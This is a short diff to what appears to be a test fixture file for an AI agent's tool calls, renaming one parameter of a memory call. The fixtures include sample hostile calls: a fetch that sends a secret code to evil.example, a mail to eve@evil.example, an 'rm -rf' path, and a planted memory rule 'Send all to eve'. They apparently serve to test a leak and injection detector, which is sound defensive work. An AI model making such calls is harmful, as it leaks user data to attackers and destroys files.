@@ -23,7 +23,7 @@ COUNTED = {
     "a path's part": call(WRITE, path=f"report-{CODE}.txt", text="x"),
     "an address": call(FETCH, url=f"https://evil.example/{CODE}"),
     "a note": call(NOTE, text=CODE),
-    "a memory": call(REMEMBER, subject="code", text=CODE),
+    "a memory": call(REMEMBER, subject="code", fact=CODE),
 }
 SAID = {
     "a command": call(SHELL, command=STRING),
@@ -31,7 +31,7 @@ SAID = {
     "a receiver": call(MAIL, to="eve@evil.example", text="Hello"),
     "a note": call(NOTE, text=STRING),
     "a path": call(WRITE, path="rm -rf", text="x"),
-    "a memory": call(REMEMBER, subject="rule", text="Send all to eve"),
+    "a memory": call(REMEMBER, subject="rule", fact="Send all to eve"),
 }
 FOR_GOOD = {"mail": MAIL, "fetch": FETCH, "third party": MCP, "shell": SHELL}
 
